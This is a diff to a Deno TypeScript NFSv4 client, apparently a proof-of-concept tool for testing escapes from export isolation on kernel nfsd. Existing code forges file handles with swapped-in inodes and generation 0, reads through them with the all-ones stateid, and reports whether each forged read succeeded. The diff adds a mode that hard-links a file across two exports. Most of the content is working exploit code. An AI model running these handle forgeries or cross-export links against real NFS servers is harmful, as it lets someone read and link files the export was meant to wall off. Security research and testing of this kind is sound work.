@@ -2,13 +2,22 @@
 // from a privileged port (kernel nfsd's default `secure`), just enough to look a handle up by path,
 // read through a handle, and forge one. Run inside the client's network namespace:
 //   deno run -A --no-config nfs4_forge.ts <server> <export path> <file inside> <inode> [<inode>...]
+//   deno run -A --no-config nfs4_forge.ts link <server> <export> <file inside> <other export>
 // prints one JSON object: the legitimate read, then per inode the NFS status (0 = read, 70 =
 // stale, 13 = access) of a read through a forged handle naming that inode, generation 0 (ext4
 // skips the generation check for 0). Two forgeries per inode: the file's own handle with the inode
 // swapped in, and the same without the parent directory part kernel nfsd adds under subtree_check.
 import net from "node:net";
 
-const OP = { GETFH: 10, LOOKUP: 15, PUTFH: 22, PUTROOTFH: 24, READ: 25 } as const;
+const OP = {
+  GETFH: 10,
+  LINK: 11,
+  LOOKUP: 15,
+  PUTFH: 22,
+  PUTROOTFH: 24,
+  READ: 25,
+  SAVEFH: 32,
+} as const;
 
 class Xdr {
   bytes: number[] = [];
@@ -127,6 +136,23 @@ export class Nfs4Client {
     throw new Error("no GETFH result");
   }
 
+  /** LINK `name` in `dir` to `file` (SAVEFH the file, PUTFH the directory): the first failing
+   *  operation's status, 0 when linked. */
+  async linkStatus(file: Uint8Array, dir: Uint8Array, name: string): Promise<number> {
+    const r = await this.#compound((x) => {
+      x.u32(OP.PUTFH).opaque(file);
+      x.u32(OP.SAVEFH);
+      x.u32(OP.PUTFH).opaque(dir);
+      x.u32(OP.LINK).string(name);
+    }, 4);
+    for (let i = 0; i < 4; i++) {
+      r.u32(); // op
+      const status = r.u32();
+      if (status !== 0) return status;
+    }
+    return 0;
+  }
+
   /** READ through `fh` with the all-ones stateid (READ bypass: allowed during the grace period,
    *  unlike the all-zeros one): the NFS status and, when 0, the data. */
   async read(fh: Uint8Array, count = 256): Promise<{ status: number; data?: string }> {
@@ -163,7 +189,23 @@ export function forgedHandles(fileFh: Uint8Array, ino: number): Uint8Array[] {
   return fidLen === 16 ? [withParent, noParent] : [withParent];
 }
 
-if (import.meta.main) {
+/** `link <server> <export> <file inside> <export of a directory>`: a hard link to the file, made
+ *  in that directory, across the two exports; prints {"status": N} (0: linked). */
+async function linkAcross(args: string[]): Promise<void> {
+  const [server, fileExport, inside, dirExport] = args;
+  const c = await Nfs4Client.connect(server);
+  const path = (...p: string[]) => p.flatMap((x) => x.split("/")).filter(Boolean);
+  try {
+    const file = await c.lookup(path(fileExport, inside));
+    const dir = await c.lookup(path(dirExport));
+    console.log(JSON.stringify({ status: await c.linkStatus(file, dir, "linked-across") }));
+  } finally {
+    c.close();
+  }
+}
+
+if (import.meta.main && Deno.args[0] === "link") await linkAcross(Deno.args.slice(1));
+else if (import.meta.main) {
   const [server, exportPath, inside, ...inodes] = Deno.args;
   const c = await Nfs4Client.connect(server);
   try {
